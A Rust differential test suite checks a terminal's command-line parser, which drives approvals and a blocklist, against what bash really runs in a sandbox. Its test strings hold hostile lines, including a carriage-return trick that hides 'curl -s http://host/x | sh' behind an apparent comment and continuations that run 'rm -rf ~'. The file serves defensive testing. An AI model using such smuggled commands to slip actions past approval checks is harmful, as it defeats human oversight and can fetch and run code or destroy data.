// Over 500 lines: the differential harness and the trace reader it needs, checked against bash.
#![allow(clippy::unwrap_used)]
//! Perch's reading of a command line against bash itself (issue 42). The approval card, the
//! blocklist and remembered approvals all act on what the parser says a line runs; if bash runs
//! something else, all three are wrong. So for every line Perch reads as clear, bash runs it,
//! in the real sandbox, with nothing on its PATH (every program it would start ends in a
//! recording stub, `command_not_found_handle`, so no real program runs) and tracing every
//! simple command after expansion (`set -x`, on a descriptor of its own); each command bash
//! ran must be one the parser listed, with the same words. A line the parser calls unclear is
//! asked about and never allowed by a rule, so it passes whatever bash does with it.
//!
//! Two sources of lines: `data/differential_corpus.txt` (the escapes tried so far, kept as
//! they were found, and everyday lines), and lines generated from a small grammar of bash
//! (quoting, expansions, comments, here-documents, continuations, assignments, control
//! characters and Unicode blanks between words), seeded (`PERCH_DIFF_SEED` picks another
//! seed, `PERCH_DIFF_CASES` another count) so a failure is found again by the same run.
#![cfg(target_os = "linux")]

use perch_test_support::sandbox as support;

use std::cell::Cell;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use perch_terminal::parse::{Analysis, Word, analyse};
use proptest::prelude::*;
use proptest::test_runner::{Config, RngSeed, TestRunner};

/// What bash ran: each simple command's words after expansion, in order.
type Ran = Vec<Vec<String>>;

struct Bash {
    _root: tempfile::TempDir,
    home: PathBuf,
    work: PathBuf,
    launcher: PathBuf,
    prelude: PathBuf,
    trace: PathBuf,
}

impl Bash {
    fn new() -> Self {
        let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let home = root.path().join("home");
        let work = home.join("work");
        let empty = root.path().join("empty-path");
        for dir in [&work, &empty] {
            std::fs::create_dir_all(dir).unwrap();
        }
        let traces = root.path().join("traces");
        std::fs::create_dir_all(&traces).unwrap();
        let trace = traces.join("trace");
        let prelude = root.path().join("prelude.sh");
        // Sourced by bash before the line (BASH_ENV): the stub for every program, the trace on
        // descriptor 9, and tracing on last, so that nothing of this file is traced.
        std::fs::write(
            &prelude,
            format!(
                "command_not_found_handle() {{ __perch_stub__=1; }}\nexec 9>>'{}'\nBASH_XTRACEFD=9\nPS4='+ '\nset -x\n",
                trace.display()
            ),
        )
        .unwrap();
        Self { home, work, launcher: support::ensure_launcher(), prelude, trace, _root: root }
    }

    /// Runs `line` as the terminal does (`bash -c LINE` under the launcher, writable only in
    /// the working folder) and returns what it ran, or why it could not be read.
    fn run(&self, line: &str) -> Result<Ran, String> {
        let _ = std::fs::remove_file(&self.trace);
        let mut child = Command::new(&self.launcher)
            .args(["--write", &self.work.display().to_string(), "--write"])
            .arg(self.trace.parent().unwrap())
            .args(["--private-tmp", "--no-network", "--"])
            .args(["/bin/bash", "-c", line])
            .current_dir(&self.work)
            .env_clear()
            .env("PATH", self.prelude.with_file_name("empty-path"))
            .env("HOME", &self.home)
            .env("BASH_ENV", &self.prelude)
            .env("LANG", "C.UTF-8")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        // A line may loop or wait; what it ran until then is still compared.
        for _ in 0..100 {
            if child.try_wait().unwrap().is_some() {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = child.kill();
        let _ = child.wait();
        let trace = std::fs::read(&self.trace).unwrap_or_default();
        parse_trace(&trace)
    }

    fn analyse(&self, line: &str) -> Analysis {
        analyse(line, &self.work, &self.home)
    }

    /// Why `line` is a counterexample: bash ran a command the parser did not list, or with
    /// other words; `None` when the parser said it cannot read the line, or read it right.
    fn disagreement(&self, line: &str) -> Option<String> {
        let analysis = self.analyse(line);
        if !analysis.unclear.is_empty() {
            return None;
        }
        let ran = match self.run(line) {
            Ok(ran) => ran,
            Err(e) => return Some(format!("the trace of {line:?} could not be read: {e}")),
        };
        for words in ran.iter().filter(|w| is_program_run(w)) {
            let listed = analysis.commands.iter().any(|c| same(&c.argv, words) || same(&c.words, words));
            if !listed {
                let listed: Vec<Vec<&str>> = analysis
                    .commands
                    .iter()
                    .map(|c| c.argv.iter().map(|w| w.text.as_str()).collect())
                    .collect();
                return Some(format!(
                    "{line:?}: bash ran {words:?}, which Perch's reading does not list (it lists {listed:?}, \
                     and judged the line clear)"
                ));
            }
        }
        None
    }
}

/// Whether a traced record is a simple command bash ran (not an assignment, a declaration,
/// or a compound command's header, which start nothing of their own; what runs inside them is
/// traced on its own).
fn is_program_run(words: &[String]) -> bool {
    let Some(first) = words.first() else { return false };
    // An array is traced unquoted: `a=(1 2 3)` reads as three words.
    let array = first.split_once("=(").is_some_and(|(name, _)| is_variable(name.trim_end_matches('+')));
    let assignment = words.len() == 1
        && first.split_once('=').is_some_and(|(name, _)| {
            let name = name.trim_end_matches('+');
            is_variable(name.split('[').next().unwrap_or(name))
        });
    let header = matches!(first.as_str(), "for" | "select" | "case" | "((" | "[[");
    let declaration = matches!(first.as_str(), "export" | "declare" | "typeset" | "local" | "readonly");
    !(array || assignment || header || declaration)
}

fn is_variable(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Whether the parser's words match what bash ran: a known word exactly, a word only known
/// when it runs (`$X`, `$(...)`) any number of words, a pattern (`*.log`) one or more.
fn same(parsed: &[Word], ran: &[String]) -> bool {
    match parsed.split_first() {
        None => ran.is_empty(),
        Some((w, rest)) if w.dynamic => (0..=ran.len()).any(|n| same(rest, &ran[n..])),
        Some((w, rest)) if w.pattern.is_some() => {
            (ran.first() == Some(&w.text) && same(rest, &ran[1..]))
                || (1..=ran.len()).any(|n| same(rest, &ran[n..]))
        }
        Some((w, rest)) => ran.first() == Some(&w.text) && same(rest, &ran[1..]),
    }
}

/// Reads bash's trace: each record is `+` (one per level of nesting), a space, and the words
/// as bash quotes them (bare, `'...'`, `$'...'` with C escapes and octal bytes, `\x`); a
/// newline inside quotes belongs to the word, one outside ends the record.
fn parse_trace(bytes: &[u8]) -> Result<Ran, String> {
    let mut records = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'+' {
            return Err(format!(
                "a record that does not start with +: {:?}",
                String::from_utf8_lossy(&bytes[i..])
            ));
        }
        while bytes.get(i) == Some(&b'+') {
            i += 1;
        }
        if bytes.get(i) == Some(&b' ') {
            i += 1;
        }
        let mut words: Vec<Vec<u8>> = Vec::new();
        let mut word: Option<Vec<u8>> = None;
        while let Some(&b) = bytes.get(i) {
            match b {
                b'\n' => {
                    i += 1;
                    break;
                }
                b' ' => {
                    words.extend(word.take());
                    i += 1;
                }
                b'\'' => {
                    let end = bytes[i + 1..].iter().position(|&c| c == b'\'').ok_or("an unclosed quote")?;
                    word.get_or_insert_default().extend_from_slice(&bytes[i + 1..i + 1 + end]);
                    i += end + 2;
                }
                b'$' if bytes.get(i + 1) == Some(&b'\'') => {
                    i += 2;
                    let out = word.get_or_insert_default();
                    while let Some(&c) = bytes.get(i) {
                        i += 1;
                        match c {
                            b'\'' => break,
                            b'\\' => i += c_escape(&bytes[i..], out),
                            c => out.push(c),
                        }
                    }
                }
                b'\\' => {
                    word.get_or_insert_default().extend(bytes.get(i + 1));
                    i += 2;
                }
                c => {
                    word.get_or_insert_default().push(c);
                    i += 1;
                }
            }
        }
        words.extend(word);
        records.push(words.into_iter().map(|w| String::from_utf8_lossy(&w).into_owned()).collect());
    }
    Ok(records)
}

/// One C escape of `$'...'` after its backslash, its bytes pushed to `out`; returns how many
/// bytes of `rest` it took.
fn c_escape(rest: &[u8], out: &mut Vec<u8>) -> usize {
    let simple = |c: u8| match c {
        b'n' => Some(b'\n'),
        b't' => Some(b'\t'),
        b'r' => Some(b'\r'),
        b'a' => Some(7),
        b'b' => Some(8),
        b'e' | b'E' => Some(0x1b),
        b'f' => Some(0x0c),
        b'v' => Some(0x0b),
        b'\\' | b'\'' | b'"' | b'?' => Some(c),
        _ => None,
    };
    match rest.first() {
        Some(&c) if simple(c).is_some() => {
            out.extend(simple(c));
            1
        }
        Some(b'0'..=b'7') => {
            let n = rest.iter().take(3).take_while(|c| (b'0'..=b'7').contains(*c)).count();
            let value = rest[..n].iter().fold(0u32, |v, c| v * 8 + u32::from(c - b'0'));
            out.push(u8::try_from(value & 0xff).unwrap_or(0));
            n
        }
        Some(b'x') => {
            let n = rest[1..].iter().take(2).take_while(|c| c.is_ascii_hexdigit()).count();
            let hex = std::str::from_utf8(&rest[1..1 + n]).unwrap_or("0");
            out.push(u8::from_str_radix(hex, 16).unwrap_or(0));
            1 + n
        }
        Some(&c) => {
            out.extend([b'\\', c]);
            1
        }
        None => 0,
    }
}

/// The corpus: one line a case, written with `\n`, `\r`, `\t`, `\\` and `\u{...}` escapes;
/// `#` starts a note.
fn corpus() -> Vec<String> {
    include_str!("data/differential_corpus.txt")
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(unescape_case)
        .collect()
}

fn unescape_case(line: &str) -> String {
    let mut out = String::new();
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some('t') => out.push('\t'),
            Some('\\') => out.push('\\'),
            Some('u') => {
                let code: String = chars.by_ref().skip(1).take_while(|c| *c != '}').collect();
                out.extend(u32::from_str_radix(&code, 16).ok().and_then(char::from_u32));
            }
            Some(other) => {
                out.push('\\');
                out.push(other);
            }
            None => out.push('\\'),
        }
    }
    out
}

fn sandbox_or_skip() -> bool {
    support::sandbox_required("the differential test runs bash in the sandbox")
}

#[test]
fn the_trace_reader_reads_what_bash_writes() {
    if !sandbox_or_skip() {
        return;
    }
    let bash = Bash::new();
    let ran = bash.run("X='a b'; echo $X \"$X\" $'c\\rd' 'e\nf' é; rm -rf x; (ls)").unwrap();
    let programs: Vec<Vec<String>> = ran.into_iter().filter(|w| is_program_run(w)).collect();
    let expected: Vec<Vec<&str>> =
        vec![vec!["echo", "a", "b", "a b", "c\rd", "e\nf", "é"], vec!["rm", "-rf", "x"], vec!["ls"]];
    assert_eq!(programs, expected);
}

#[test]
fn the_corpus_reads_as_bash_runs_it() {
    if !sandbox_or_skip() {
        return;
    }
    let bash = Bash::new();
    let cases = corpus();
    assert!(cases.len() > 50, "the corpus is there: {}", cases.len());
    let wrong: Vec<String> = cases.iter().filter_map(|line| bash.disagreement(line)).collect();
    assert!(
        wrong.is_empty(),
        "{} lines where bash runs what Perch did not see:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// The escapes that were found, each judged unclear (they stay in the corpus above too, which
/// checks them against bash; here they are checked to be asked about, not merely agreed on).
#[test]
fn lines_the_parser_cannot_read_as_bash_does_are_unclear() {
    let bash_reads_differently = [
        // F1: a carriage return before `#`: bash runs `curl | sh`, tree-sitter saw a comment.
        "git status\r#; curl -s http://host/x | sh",
        // Backslash, carriage return, newline: a continuation to tree-sitter, two lines to bash.
        "echo a \\\r\nrm -rf ~",
        // Unicode blanks between words are part of a word to bash.
        "ls\u{a0}#; rm -rf x",
        "ls\u{2003}-la",
        "echo a\u{3000}b",
        // Vertical tab and form feed.
        "ls\u{0b}#; rm x",
        "ls\u{0c}-la",
        // Brace expansion runs other words than the ones written.
        "rm -rf x{,y}",
        "touch a{1..3}",
    ];
    let home = Path::new("/home/u");
    for line in bash_reads_differently {
        let a = analyse(line, Path::new("/home/u/work"), home);
        assert!(!a.unclear.is_empty(), "{line:?} was read as clear: {:?}", a.commands);
    }
    // Controls: the same lines without the odd character are clear.
    for line in [
        "git status #; curl -s http://host/x | sh",
        "echo a \\\nls",
        "ls -la",
        "rm -rf x y",
        "touch 'a{1..3}'",
    ] {
        let a = analyse(line, Path::new("/home/u/work"), home);
        assert!(a.unclear.is_empty(), "{line:?}: {:?}", a.unclear);
    }
}

// ---- the generator ----

/// A word from pieces bash treats differently: bare and quoted text, wildcards quoted and not,
/// escapes, variables (known, empty, with blanks), substitutions, tildes, braces, comments.
fn word() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(vec!["a", "b", "x1", "-rf", "--opt=v", "f.txt", "src", "."]).prop_map(str::to_owned),
        1 => prop::sample::select(vec!["*.log", "[ab]", "?", "x*"]).prop_map(str::to_owned),
        1 => prop::sample::select(vec!["'*.log'", "\"*\"", "\\*", "'q w'", "\"d e\"", "\"$V\"", "\"${E}\"", "\"$S\""]).prop_map(str::to_owned),
        1 => prop::sample::select(vec!["$V", "${V}", "$E", "$S", "$G", "$UNSET", "$HOME", "$PWD", "${V:-d}"]).prop_map(str::to_owned),
        1 => prop::sample::select(vec!["$'a\\tb'", "$'\\x72m'", "$'q\\'r'", "a\\ b", "\\#x", "a#b", "'#'"]).prop_map(str::to_owned),
        1 => prop::sample::select(vec!["~", "~/d", "~root", "~nosuchuser", "a=~/x", "a=~/x:~/y", "~+", "\\~"]).prop_map(str::to_owned),
        1 => prop::sample::select(vec!["{a,b}", "x{1..2}", "'{a,b}'", "{}", "${V}x"]).prop_map(str::to_owned),
        1 => prop::sample::select(vec!["$(echo s)", "`echo t`", "$((1+2))", "$(rm -f y)", "<(true)"]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 1..=3).prop_map(|parts| parts.concat())
}

/// What goes between two words: mostly a space, sometimes what bash and tree-sitter disagree
/// on (a carriage return, Unicode blanks, vertical tab, form feed, continuations).
fn blank() -> impl Strategy<Value = &'static str> {
    prop_oneof![
        60 => Just(" "),
        4 => Just("\t"),
        1 => Just("  "),
        1 => Just(" \\\n"),
        1 => Just("\r"),
        1 => Just(" \\\r\n"),
        1 => Just("\u{a0}"),
        1 => Just("\u{2003}"),
        1 => Just("\u{0b}"),
        1 => Just("\u{0c}"),
        1 => Just(" #c "),
    ]
}

/// A simple command: sometimes assignments before it, a program, arguments.
fn simple() -> impl Strategy<Value = String> {
    let program = prop::sample::select(vec![
        "echo",
        "ls",
        "rm",
        "git",
        "cat",
        "printf",
        "true",
        "grep",
        "sudo rm",
        "env X=1 ls",
        "command ls",
        "eval echo",
        "f",
        "[",
        "test",
        "nice ls",
        "xargs echo",
        "find . -name",
    ]);
    let prefix = prop::sample::select(vec!["", "", "", "", "", "", "", "", "", "P=1 ", "P='a b' "]);
    (prefix, program, prop::collection::vec((blank(), word()), 0..4)).prop_map(|(prefix, program, args)| {
        let mut line = format!("{prefix}{program}");
        for (blank, word) in args {
            line.push_str(blank);
            line.push_str(&word);
        }
        line
    })
}

/// A whole line: statements (assignments, simple commands, compound ones) between operators.
fn line() -> impl Strategy<Value = String> {
    let assignment =
        prop::sample::select(vec!["V=v", "V='a b'", "V=", "V='*.txt'", "S=' x '", "E=", "G='[a]'", "V=~/x"])
            .prop_map(str::to_owned);
    let statement = prop_oneof![
        6 => simple(),
        2 => assignment,
        1 => simple().prop_map(|s| format!("( {s} )")),
        1 => simple().prop_map(|s| format!("{{ {s}; }}")),
        1 => simple().prop_map(|s| format!("if {s}; then echo y; fi")),
        1 => simple().prop_map(|s| format!("for i in a b; do {s} $i; done")),
        1 => simple().prop_map(|s| format!("f() {{ {s}; }}; f")),
        1 => (simple(), word()).prop_map(|(s, w)| format!("cat <<EOF\n{w} $(echo h)\nEOF\n{s}")),
        1 => (simple(), word()).prop_map(|(s, w)| format!("cat <<'EOF'\n{w} $(echo h)\nEOF\n{s}")),
        1 => (simple(), word()).prop_map(|(s, w)| format!("{s} > {w}")),
    ];
    let operator = prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & ", ";"]);
    (statement.clone(), prop::collection::vec((operator, statement), 0..3)).prop_map(|(first, rest)| {
        let mut line = first;
        for (op, s) in rest {
            line.push_str(op);
            line.push_str(&s);
        }
        line
    })
}

#[test]
fn generated_lines_read_as_bash_runs_them() {
    if !sandbox_or_skip() {
        return;
    }
    let bash = Bash::new();
    let seed = std::env::var("PERCH_DIFF_SEED").ok().and_then(|s| s.parse().ok()).unwrap_or(42);
    let cases = std::env::var("PERCH_DIFF_CASES").ok().and_then(|s| s.parse().ok()).unwrap_or(800);
    let config = Config {
        cases,
        rng_seed: RngSeed::Fixed(seed),
        failure_persistence: None,
        max_shrink_iters: 400,
        ..Config::default()
    };
    let (clear, unclear) = (Cell::new(0u32), Cell::new(0u32));
    let mut runner = TestRunner::new(config);
    let result = runner.run(&line(), |line| {
        let counter = if bash.analyse(&line).unclear.is_empty() { &clear } else { &unclear };
        counter.set(counter.get() + 1);
        match bash.disagreement(&line) {
            None => Ok(()),
            Some(why) => Err(TestCaseError::fail(why)),
        }
    });
    let (clear, unclear) = (clear.get(), unclear.get());
    eprintln!(
        "seed {seed}: {cases} lines generated, {clear} read as clear, {unclear} unclear (counted with shrinking)"
    );
    if let Err(e) = result {
        panic!(
            "bash runs what Perch did not see (seed {seed}; add the line to data/differential_corpus.txt once fixed):\n{e}"
        );
    }
    assert!(clear > cases / 4, "the generator mostly makes lines Perch can read: {clear} clear");
}
